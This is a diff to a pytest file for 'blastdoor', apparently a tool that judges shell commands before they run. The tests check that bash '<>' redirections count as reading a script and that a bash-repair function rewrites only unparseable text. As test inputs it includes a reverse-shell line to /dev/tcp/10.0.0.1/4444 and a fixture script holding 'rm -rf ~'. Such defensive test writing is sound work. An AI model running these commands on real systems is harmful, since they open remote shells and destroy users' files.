@@ -4,12 +4,15 @@ from __future__ import annotations
 
 import shutil
 import subprocess
+from pathlib import Path
 
 import pytest
 
 from blastdoor.analyze.bash_repair import repaired
 from blastdoor.analyze.bash_tree import parse
-from blastdoor.model import Verb
+from blastdoor.judge import judge
+from blastdoor.model import Action, Verb
+from blastdoor.policy import load
 from tests.conftest import decide
 
 VALID_BUT_REJECTED = [
@@ -58,3 +61,57 @@ def test_commands_in_repaired_text_are_judged(command: str, expected: str) -> No
     assert not any(
         e.verb is Verb.EXECUTE_UNKNOWN and "unparseable" in e.tags for e in decision.effects
     )
+
+
+@pytest.mark.parametrize(
+    ("command", "reads"),
+    [
+        ("bash <>payload.sh", "payload.sh"),
+        ("sh <> payload.sh", "payload.sh"),
+        ("bash -s <>payload.sh", "payload.sh"),
+        ("python3 <>evil.py", "evil.py"),
+        ("bash 0<>payload.sh", "payload.sh"),
+        ("bash -i <>/dev/tcp/10.0.0.1/4444 1>&0 2>&0", "/dev/tcp/10.0.0.1/4444"),
+    ],
+)
+def test_read_write_without_a_number_is_standard_input(command: str, reads: str) -> None:
+    # bash reads its script from the file `<>` opens; appending to it is not what runs.
+    decision = decide(command)
+    assert decision.kind.value == "ask", decision.reasons
+    assert any(reads in reason and "read from file" in reason for reason in decision.reasons)
+
+
+def test_a_script_read_through_read_write_is_judged(tmp_path: Path) -> None:
+    (tmp_path / "payload.sh").write_text("rm -rf ~\n")
+    decision = judge(Action.shell("bash <>payload.sh", cwd=str(tmp_path)), load())
+    assert decision.kind.value == "deny", decision.reasons
+
+
+@pytest.mark.parametrize(
+    ("script", "expected"),
+    [
+        ("echo a3<>f", "echo a3< f"),  # the number ends the word: standard input
+        ("cat 0<>f", "cat  < f"),
+        ("exec 12<>f", "exec 12>>f"),
+    ],
+)
+def test_which_descriptor_read_write_opens(script: str, expected: str) -> None:
+    assert repaired(script) == expected
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "echo 'a<>b ${s:$i:1}' # c<>d\nls \\",  # quotes and comments that parse are kept
+        "echo $((1<<X)) \\",  # arithmetic is not a heredoc
+        "cat <<'EOF'\nexec 3<>f ${s:$i}\nEOF\nls \\",  # nor is a quoted heredoc's body
+    ],
+)
+def test_only_the_text_that_fails_to_parse_is_rewritten(script: str) -> None:
+    fixed = repaired(script)
+    assert fixed == script.removesuffix("\\") + " "
+    assert not parse(fixed).has_error
+
+
+def test_arithmetic_beside_an_unterminated_heredoc_adds_one_end() -> None:
+    assert repaired("echo $((1<<X)); cat <<EOF") == "echo $((1<<X)); cat <<EOF\nEOF\n"
